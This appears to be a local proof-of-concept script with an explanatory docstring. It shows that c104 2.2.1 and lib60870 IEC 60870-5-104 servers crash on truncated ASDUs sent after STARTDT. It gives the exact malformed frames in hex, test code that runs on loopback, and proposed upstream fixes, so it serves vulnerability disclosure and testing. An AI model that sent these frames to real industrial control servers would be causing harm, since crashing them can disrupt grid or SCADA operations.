"""c104 2.2.1 (lib60870): one short ASDU after STARTDT kills the server's process. Standalone, loopback.

c104 and lib60870 trust an ASDU's type and VSQ to say how long it is: given fewer octets,
they read past the end of the frame or use an element they could not read.

- ``1e 81 06 00 01 00`` M_SP_TB_1, SQ=1, one object, no object octets (every monitor type
  1..40 alike): c104's ``IncomingMessage::first`` calls ``CS101_ASDU_getElement``, whose
  sequence branch sets the address of the element it failed to read (NULL):
  SIGSEGV in ``InformationObject_setObjectAddress``;
- ``67 00 06 00 01 00`` C_CS_NA_1, COT 6, no object (any body shorter than IOA + 7):
  lib60870's slave reads object 0 without checking it is there;
- ``6b 00 03 00 01 00`` C_TS_TA_1 with a cause other than activation and no object:
  SIGSEGV in ``InformationObject_getObjectAddress``.

    python docs/c104/short_asdu_crash.py

Each frame goes to a fresh server in a child process (the crash takes the process with it);
it prints the child's exit code (-11: SIGSEGV) and, as a control, the same with a valid
clock synchronisation. Fix upstream: check ``CS101_ASDU_getElement``'s result before using
it (the sequence branch of ``CS101_ASDU_getElementEx`` and the system-command handlers in
``cs104_slave.c``), or refuse an ASDU whose length does not match its type and VSQ before
handling it, as ocpp809's front does (``iec104/apdu_guard.py``).
"""

import multiprocessing
import socket
import time

import c104

PORT = 24410
FRAMES = {
    "M_SP_TB_1 SQ=1 without objects": "680a00000000" + "1e8106000100",
    "C_CS_NA_1 without its object": "680a00000000" + "670006000100",
    "C_TS_TA_1 COT 3 without its object": "680a00000000" + "6b0003000100",
    "control: C_CS_NA_1 with its object": "681400000000" + "6701060001000000000000000c01011a",
}


def serve(port: int) -> None:
    server = c104.Server(ip="127.0.0.1", port=port)
    station = server.add_station(common_address=1)
    assert station is not None
    station.add_point(io_address=100, type=c104.Type.M_SP_TB_1)
    server.start()
    time.sleep(5.0)
    server.stop()


def trial(port: int, frame: bytes) -> int | None:
    child = multiprocessing.Process(target=serve, args=(port,))
    child.start()
    time.sleep(0.5)
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.settimeout(2.0)
        sock.sendall(bytes.fromhex("680407000000"))  # STARTDT act
        assert sock.recv(6) == bytes.fromhex("68040b000000")
        sock.sendall(frame)
        child.join(2.0)
    if child.is_alive():
        child.terminate()
        child.join()
        return None
    return child.exitcode


def main() -> None:
    for i, (name, octets) in enumerate(FRAMES.items()):
        code = trial(PORT + i, bytes.fromhex(octets))
        print(f"{name}: {'alive after 2 s' if code is None else f'process ended, exit code {code}'}")


if __name__ == "__main__":
    main()
